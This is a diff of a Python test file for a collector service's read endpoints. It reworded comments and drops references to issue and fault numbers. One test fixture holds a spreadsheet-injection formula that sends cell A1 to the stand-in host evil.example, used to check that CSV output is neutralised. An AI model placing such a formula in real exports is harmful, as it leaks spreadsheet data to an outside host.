@@ -1,4 +1,4 @@
-"""Issue 11, faults 11, 12 and 14, over the real binaries: the read endpoints
+"""The read endpoints' edges, over the real binaries: the read endpoints
 (/v1/rollups, /v1/costs, /v1/rows, /v1/whoami, /readyz) and `vgcollector rollup`.
 Bad input is a 400 naming the parameter, decided before PostgreSQL sees it;
 database failures reach the client in our words with the request id, never the
@@ -22,7 +22,7 @@ def raw_get(collector, path, query, key):
                      headers={"Authorization": f"Bearer {key}"})
 
 
-# ---- fault 11: bad input is a 400 naming the parameter ------------------------------
+# ---- bad input is a 400 naming the parameter ------------------------------
 
 # Every bad value is a named case in tests/unit/test_rollup_errors.c, which calls
 # the parser directly. Over HTTP, what needs the wire: bytes that are not UTF-8,
@@ -65,7 +65,7 @@ def test_time_range_limits_are_inclusive_of_1970_and_year_9999(db, collector):
     assert nxt.status_code == 200 and len(nxt.json()["rows"]) == 1, nxt.text
 
 
-# ---- fault 11: database failures in our words, with the request id ------------------
+# ---- database failures in our words, with the request id ------------------
 
 LEAKS = ("socket", ".s.PGSQL", "PostgreSQL", "postgres", "FATAL", "ERROR", "does not exist",
          "server closed", "terminating", "column", "relation")
@@ -132,7 +132,7 @@ def test_database_error_500_bodies_hide_internals(db, collector):
             db.query(f"ALTER TABLE {table} RENAME COLUMN {new} TO {col}")
 
 
-# ---- fault 12: /v1/costs states the range it used --------------------------------------
+# ---- /v1/costs states the range it used --------------------------------------
 
 def iso(ts):
     return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(ts))
@@ -159,7 +159,7 @@ def test_costs_with_only_start_answers_the_end_it_used(db, collector):
     assert future.status_code == 400 and future.json()["error"].startswith("start"), future.text
 
 
-# ---- fault 14: CSV and terminal output are neutralised ---------------------------------
+# ---- CSV and terminal output are neutralised ---------------------------------
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HOSTILE = {
